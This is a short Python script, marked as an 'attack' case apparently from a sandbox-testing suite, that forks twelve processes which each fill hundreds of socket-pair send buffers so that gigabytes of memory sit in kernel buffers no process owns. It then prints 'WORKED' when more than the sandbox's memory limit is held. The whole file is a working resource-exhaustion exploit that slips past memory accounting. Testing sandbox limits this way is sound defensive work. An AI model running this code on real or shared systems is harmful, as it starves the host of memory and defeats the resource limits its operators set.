# /// attack
# slow = true
# tries = "keeps two gigabytes in the buffers of socket pairs and pipes, and in descriptors under way, where no process has them"
# fails = []
# keeps = ["gpt.load", "scan.tiled"]
# ///
import os as _os
import socket as _socket
import time as _time

_report, _tell = _os.pipe()
_blocks = bytes(1 << 16)


def _fill():
    kept, size = [], 0
    try:
        while len(kept) < 480:
            for end in _socket.socketpair():
                end.setblocking(False)
                end.setsockopt(_socket.SOL_SOCKET, _socket.SO_SNDBUF, 1 << 20)
                kept.append(end)
                try:
                    while True:
                        size += end.send(_blocks)
                except BlockingIOError:
                    pass
    except OSError as error:
        print(error)
    _os.write(_tell, size.to_bytes(8, "big"))
    _time.sleep(60)


_size = 0
for _ in range(12):
    _pid = _os.fork()
    if not _pid:
        _fill()
        _os._exit(0)
    _size += int.from_bytes(_os.read(_report, 8), "big")
print(_size >> 20, "MiB in sockets")
if _size > 1100 << 20:
    print("WORKED: more than the sandbox's memory is held in sockets")
